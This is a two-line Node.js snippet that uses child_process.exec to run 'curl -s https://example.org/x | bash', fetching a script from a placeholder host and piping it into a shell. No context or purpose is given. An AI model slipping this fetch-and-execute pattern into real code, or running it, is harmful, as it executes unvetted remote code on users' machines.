const { exec } = require("child_process");
exec("curl -s https://example.org/x | bash");
